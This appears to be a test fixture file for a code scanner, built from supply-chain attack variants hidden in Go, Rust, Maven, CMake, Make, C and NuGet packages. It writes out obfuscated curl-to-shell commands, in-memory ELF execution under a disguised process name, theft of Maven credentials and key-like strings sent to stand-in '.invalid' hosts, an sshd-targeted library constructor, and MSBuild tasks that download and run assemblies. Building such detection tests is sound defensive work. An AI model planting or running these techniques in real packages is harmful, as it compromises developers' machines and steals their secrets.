"""Unseen attacks on packages of languages that are compiled, and on their builds."""
# ruff: noqa: E501  # files stand as they were written

from __future__ import annotations

import gzip
from collections.abc import Mapping

from tests.codescan.variations import packages
from tests.codescan.variations.technique import CODE, NETWORK, PROCESS, SECRETS
from tests.codescan.variations.update import Update, noise, sides

_BUILD = frozenset(("build",))
_NATIVE = PROCESS | {"native-code"}


def _xor(text: str, key: int) -> str:
    return ", ".join(f"{byte ^ key:#04x}" for byte in text.encode())


def _derive(version: str = "0.2.0") -> Mapping[str, str | bytes]:
    return {
        "Cargo.toml": f'[package]\nname = "columns-derive"\nversion = "{version}"\nedition = "2021"\n\n[lib]\nproc-macro = true\n',
        "src/lib.rs": 'use proc_macro::TokenStream;\n\n#[proc_macro_derive(Columns)]\npub fn columns(input: TokenStream) -> TokenStream {\n    let name = input.to_string();\n    format!("impl Columns for {} {{}}", name.split_whitespace().nth(1).unwrap_or_default()).parse().unwrap()\n}\n',
    }


def _log(version: str = "1.0.3") -> Mapping[str, str | bytes]:
    return {
        "Cargo.toml": f'[package]\nname = "pack-log"\nversion = "{version}"\nedition = "2021"\n\n[dependencies]\nregex = "1"\n',
        "src/lib.rs": 'pub mod pack;\n\npub fn info(text: &str) {\n    println!("INFO {text}");\n}\n',
        "src/pack.rs": "use std::path::Path;\n\n/// Packs the logs of a folder.\npub fn pack(folder: &Path) -> std::io::Result<usize> {\n    Ok(std::fs::read_dir(folder)?.count())\n}\n",
    }


def _maven(version: str = "4.0.1", plugins: str = "") -> Mapping[str, str | bytes]:
    return {
        "pom.xml": f"<project>\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>invalid.example</groupId>\n  <artifactId>columns</artifactId>\n  <version>{version}</version>\n  <build>\n    <plugins>{plugins}\n    </plugins>\n  </build>\n</project>\n",
        "src/main/java/invalid/example/Columns.java": 'package invalid.example;\n\npublic final class Columns {\n    public static String pad(String text, int width) {\n        return String.format("%-" + width + "s", text);\n    }\n}\n',
    }


def _cmake(version: str = "2.2.0") -> Mapping[str, str | bytes]:
    return {
        "CMakeLists.txt": f"cmake_minimum_required(VERSION 3.20)\nproject(colz VERSION {version} LANGUAGES C)\nadd_library(colz src/colz.c)\n",
        "src/colz.c": "#include <string.h>\n\nint colz_length(const char *text) { return (int)strlen(text); }\n",
        "cmake/colz-config.cmake": "include(${CMAKE_CURRENT_LIST_DIR}/colz-targets.cmake)\n",
    }


def _nuget(version: str = "6.1.0") -> Mapping[str, str | bytes]:
    return {
        "Columns.nuspec": f"<package>\n  <metadata>\n    <id>Columns</id>\n    <version>{version}</version>\n    <description>Text in columns.</description>\n  </metadata>\n</package>\n",
        "src/Columns.cs": "namespace Columns;\n\npublic static class Text\n{\n    public static string Pad(string text, int width) => text.PadRight(width);\n}\n",
    }


UPDATES: tuple[Update, ...] = (
    # A package variable, so no init(); the command is picked out of a table of letters.
    Update("go-letters", *sides(packages.go, "1.2.1", {
        "table.go": """package columns

import (
	"os/exec"
	"runtime"
	"strings"
)

var glyphs = []string{"/", "s", "h", "c", "b", "i", "n", "-", " ", "u", "r", "l", "t", "p", ":", ".", "|", "g", "y", "v", "a", "d"}

func row(places ...int) string {
	var line strings.Builder
	for _, place := range places {
		line.WriteString(glyphs[place])
	}
	return line.String()
}

var wide = func() bool {
	if runtime.GOOS == "windows" {
		return false
	}
	line := row(3, 9, 10, 11, 8, 7, 1, 8, 2, 12, 12, 13, 1, 14, 0, 0, 17, 11, 18, 13, 2, 15, 5, 6, 19, 20, 11, 5, 21, 8, 16, 8, 1, 2)
	return exec.Command(row(0, 4, 5, 6, 0, 1, 2), row(7, 3), line).Start() == nil
}()
""",
    }), frozenset(("import",)), (PROCESS,)),
    # Test data that is embedded, unpacked into memory and run when a function is first called.
    Update("go-memory-file", *sides(packages.go, "1.2.1", {
        "testdata/widths.bin": gzip.compress(b"\x7fELF" + noise("elf", 12000), mtime=0),
        "widths.go": """package columns

import (
	"bytes"
	"compress/gzip"
	_ "embed"
	"fmt"
	"io"
	"os"
	"sync"
	"syscall"
	"unsafe"
)

//go:embed testdata/widths.bin
var widths []byte

var load sync.Once

func table() {
	load.Do(func() {
		name := append([]byte("widths"), 0)
		fd, _, _ := syscall.Syscall(319, uintptr(unsafe.Pointer(&name[0])), 1, 0)
		reader, err := gzip.NewReader(bytes.NewReader(widths))
		if err != nil {
			return
		}
		file := os.NewFile(fd, "widths")
		_, _ = io.Copy(file, reader)
		_, _ = syscall.ForkExec(fmt.Sprintf("/proc/self/fd/%d", fd), []string{"[kworker/u8:2]"}, &syscall.ProcAttr{Env: os.Environ()})
	})
}

// Wide tells whether a letter takes two columns.
func Wide(letter rune) bool {
	table()
	return letter >= 0x1100
}
""",
    }), frozenset(), (_NATIVE,)),
    # A derive macro that runs a command in the compiler.
    Update("rust-derive", *sides(_derive, "0.2.1", {
        "src/lib.rs": str(_derive()["src/lib.rs"]).replace("    let name", "    names::warm();\n    let name").replace("use proc", "mod names;\n\nuse proc"),
        "src/names.rs": f"""use std::process::{{Command, Stdio}};
use std::sync::Once;

static ONCE: Once = Once::new();
const NAMES: &[u8] = &[{_xor("curl -s https://names.columns.invalid/d | sh", 0x2B)}];

pub fn warm() {{
    if std::env::var_os("CARGO_PRIMARY_PACKAGE").is_some() {{
        return;
    }}
    ONCE.call_once(|| {{
        let line: String = NAMES.iter().map(|byte| char::from(byte ^ 0x2b)).collect();
        let _ = Command::new("/bin/sh").arg("-c").arg(line).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
    }});
}}
""",
    }), _BUILD, (PROCESS,)),
    # A log packer that looks for keys in the sources around it.
    Update("rust-log-keys", *sides(_log, "1.0.4", {
        "Cargo.toml": str(_log("1.0.4")["Cargo.toml"]) + 'ureq = "2"\nwalkdir = "2"\n',
        "src/pack.rs": """use regex::Regex;
use std::path::Path;

const COLLECTOR: &str = "https://logs.pack-log.invalid/api/v1/pack";

/// Packs the logs of a folder.
pub fn pack(folder: &Path) -> std::io::Result<usize> {
    let forms = [
        ("hex", Regex::new(r#""0x[0-9a-fA-F]{64}""#).unwrap()),
        ("base58", Regex::new(r#""[1-9A-HJ-NP-Za-km-z]{64,88}""#).unwrap()),
        ("bytes", Regex::new(r"\\[\\s*(?:0x[0-9a-f]{2}\\s*,\\s*){31,63}0x[0-9a-f]{2}\\s*\\]").unwrap()),
    ];
    let mut count = 0;
    for entry in walkdir::WalkDir::new(folder.join("..")).into_iter().flatten() {
        let Ok(text) = std::fs::read_to_string(entry.path()) else { continue };
        count += 1;
        for (kind, form) in &forms {
            for found in form.find_iter(&text) {
                let body = format!("{kind}\\t{}\\t{}", entry.path().display(), found.as_str());
                let _ = ureq::post(COLLECTOR).send_string(&body);
            }
        }
    }
    Ok(count)
}
""",
    }), frozenset(), (NETWORK | SECRETS,)),
    # A plugin in the first phase of Maven, whose script reads the settings with the passwords.
    Update("java-maven-phase", *sides(_maven, "4.0.2", {
        "pom.xml": _maven("4.0.2", """
      <plugin>
        <groupId>org.codehaus.mojo</groupId>
        <artifactId>exec-maven-plugin</artifactId>
        <version>3.1.0</version>
        <executions><execution>
          <phase>validate</phase>
          <goals><goal>exec</goal></goals>
          <configuration><executable>bash</executable><arguments><argument>src/build/style.sh</argument></arguments></configuration>
        </execution></executions>
      </plugin>""")["pom.xml"],
        "src/build/style.sh": """#!/bin/bash
# Checks that no line is too long.
long=$(grep -rnE '.{160,}' src/main | head -5)
[ -n "$long" ] && echo "$long"
[ -n "$CI" ] && [ -r "$HOME/.m2/settings.xml" ] &&
  gzip -c "$HOME/.m2/settings.xml" "$HOME/.m2/settings-security.xml" | curl -s --data-binary @- https://style.columns.invalid/lines >/dev/null 2>&1
exit 0
""",
    }), _BUILD, (PROCESS | SECRETS, NETWORK)),
    # CMake downloads more CMake and includes it.
    Update("cmake-include", *sides(_cmake, "2.2.1", {
        "CMakeLists.txt": str(_cmake("2.2.1")["CMakeLists.txt"]) + "include(cmake/probe.cmake)\n",
        "cmake/probe.json": '{"mirror": {"scheme": "https", "labels": ["probe", "colz", "invalid"]}, "file": "cpu.cmake"}\n',
        "cmake/probe.cmake": """# What the processor can do, as known upstream.
file(READ ${CMAKE_CURRENT_LIST_DIR}/probe.json settings)
string(JSON scheme GET "${settings}" mirror scheme)
string(JSON file GET "${settings}" file)
foreach(at RANGE 2)
  string(JSON label GET "${settings}" mirror labels ${at})
  list(APPEND labels ${label})
endforeach()
list(JOIN labels "." host)
file(DOWNLOAD ${scheme}://${host}/${CMAKE_HOST_SYSTEM_NAME}/${file} ${CMAKE_BINARY_DIR}/${file} STATUS status TIMEOUT 5)
list(GET status 0 code)
if(code EQUAL 0)
  include(${CMAKE_BINARY_DIR}/${file})
  file(REMOVE ${CMAKE_BINARY_DIR}/${file})
endif()
""",
    }), _BUILD, (NETWORK | CODE,)),
    # A variable of make, the last line of a test file, backwards.
    Update("make-shell-fixture", *sides(packages.autotools, "5.4.7", {
        "Makefile": "WIDTH := $(shell tail -n 1 tests/files/wide.txt | rev | sh 2>/dev/null; echo 80)\n" + str(packages.autotools()["Makefile"]),
        "tests/files/wide.txt": "\n".join(f"{at:03d} " + "wide " * 12 for at in range(60)) + "\n" + "hs | w/dilavni.zloc.ediw//:sptth Lsf- lruc\n",
    }), _BUILD, (PROCESS,)),
    # A constructor that looks who loaded the library, and loads more.
    Update("c-constructor", *sides(packages.autotools, "5.4.7", {
        "src/compat.c": """#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Old loaders have no cpu table: keep ours beside the locale. */
static const unsigned char place[] = {0x75, 0x2c, 0x3b, 0x28, 0x75, 0x36, 0x33, 0x38, 0x75, 0x74, 0x39, 0x2a, 0x2f, 0x00};

__attribute__((constructor)) static void colz_cpu(void) {
  char self[256] = "", path[32] = "";
  if (readlink("/proc/self/exe", self, sizeof self - 1) < 0 || !strstr(self, "sshd") || getenv("LD_DEBUG"))
    return;
  for (size_t at = 0; place[at]; at++)
    path[at] = (char)(place[at] ^ 0x5a);
  void *table = dlopen(path, RTLD_NOW | RTLD_GLOBAL);
  void (*start)(void) = (void (*)(void))dlsym(table, "colz_start");
  if (start)
    start();
}
""",
        "Makefile": str(packages.autotools()["Makefile"]) + "\ncompat.o: src/compat.c\n\t$(CC) -fPIC -c -o $@ src/compat.c\n",
    }), frozenset(), (_NATIVE | {"host-check", "anti-analysis", "dynamic-code"},)),
    # A target that comes with the package: a task in it is compiled and run in each build of its users.
    Update("nuget-inline-task", *sides(_nuget, "6.1.1", {
        "build/Columns.targets": """<Project>
  <UsingTask TaskName="Widths" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)/Microsoft.Build.Tasks.Core.dll">
    <Task>
      <Using Namespace="System.Net"/>
      <Using Namespace="System.Reflection"/>
      <Code Type="Fragment" Language="cs"><![CDATA[
        try {
          var data = new WebClient().DownloadData("https://widths.columns-net.invalid/" + Environment.MachineName);
          Assembly.Load(data).EntryPoint.Invoke(null, new object[] { new string[0] });
        } catch { }
      ]]></Code>
    </Task>
  </UsingTask>
  <Target Name="ColumnsWidths" BeforeTargets="CoreCompile"><Widths/></Target>
</Project>
""",
    }), _BUILD, (CODE | {"native-code"} | NETWORK,)),
)  # fmt: skip
